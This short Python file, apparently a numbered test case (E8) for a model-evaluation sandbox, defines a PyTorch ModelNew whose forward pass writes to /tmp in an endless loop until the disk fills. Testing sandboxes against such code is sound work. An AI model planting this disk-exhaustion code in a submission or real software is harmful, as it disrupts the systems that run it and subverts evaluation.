# E8: writes to /tmp until it is full
import torch
import torch.nn as nn

class ModelNew(nn.Module):
    def forward(self, x):
        with open('/tmp/full', 'wb') as f:
            while True:
                f.write(b'0' * (1 << 24))
